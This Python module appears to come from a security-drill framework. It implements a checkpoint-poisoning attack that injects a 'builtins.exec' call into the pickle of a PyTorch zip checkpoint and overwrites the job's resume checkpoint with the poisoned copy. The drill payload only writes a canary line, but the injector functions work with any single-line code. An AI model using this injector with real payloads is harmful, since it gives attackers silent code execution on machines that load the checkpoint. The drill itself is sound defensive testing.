"""T1: a checkpoint whose loading runs code, placed on the job's resume path.

The insider takes the team's real checkpoint and inserts a call into its pickle, just after
the protocol header: ``builtins.exec(<payload>)``, whose result is popped off the stack before
the original program runs. ``torch.load(weights_only=False)`` (what the job's resume path, and
many libraries' checkpoint loaders, call) runs the payload and then returns the real state, so
the resume succeeds and nothing looks wrong. The drill's payload only appends a line to a
canary file; that the line appears is the proof the code ran.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from trainwarden._fs import atomic_write
from trainwarden.drill._attacks import AttackContext, AttackFailed, AttackOutcome

__all__ = ["attack", "canary_code", "poison_checkpoint", "poison_pickle"]


def canary_code(canary: str) -> str:
    """One line of Python that appends ``T1 payload ran in pid N`` to ``canary``."""
    return f"open({canary!r}, 'a').write('T1 payload ran in pid %d\\n' % __import__('os').getpid())"


def poison_pickle(data: bytes, code: str) -> bytes:
    """``data`` (a pickle) with ``builtins.exec(code)`` run, and discarded, before it.

    Raises:
        AttackFailed: ``code`` spans several lines (the UNICODE opcode is line-based).
    """
    if "\n" in code or "\r" in code:
        raise AttackFailed("the payload must be a single line")
    # GLOBAL builtins.exec, MARK, UNICODE code, TUPLE, REDUCE, POP: protocol 0 opcodes,
    # valid inside a pickle of any protocol.
    call = b"cbuiltins\nexec\n(V" + code.encode("raw_unicode_escape") + b"\ntR0"
    head = 2 if data[:1] == b"\x80" else 0  # keep the PROTO header first
    return data[:head] + call + data[head:]


def poison_checkpoint(data: bytes, code: str) -> bytes:
    """A PyTorch zip checkpoint with ``code`` injected into its ``data.pkl``.

    Raises:
        AttackFailed: ``data`` is not a PyTorch zip checkpoint.
    """
    try:
        source = zipfile.ZipFile(io.BytesIO(data))
        members = source.infolist()
    except zipfile.BadZipFile as exc:
        raise AttackFailed(f"not a PyTorch zip checkpoint: {exc}") from exc
    pickles = [m.filename for m in members if m.filename.endswith("/data.pkl")]
    if len(pickles) != 1:
        raise AttackFailed("not a PyTorch zip checkpoint: no single data.pkl")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for member in members:
            payload = source.read(member.filename)
            if member.filename == pickles[0]:
                payload = poison_pickle(payload, code)
            target.writestr(member.filename, payload)
    return out.getvalue()


def attack(ctx: AttackContext) -> AttackOutcome:
    """Replace the team's resume checkpoint with a poisoned copy of itself."""
    path = Path(ctx.params["checkpoint"])
    code = canary_code(str(ctx.params["canary"]))
    try:
        original = path.read_bytes()
    except OSError as exc:
        raise AttackFailed(f"cannot read {path}: {exc.strerror or exc}") from exc
    ctx.begin(step=0)
    atomic_write(path, poison_checkpoint(original, code), mode=0o644, what="checkpoint")
    return AttackOutcome(touched=[str(path)], details={"file": str(path)})
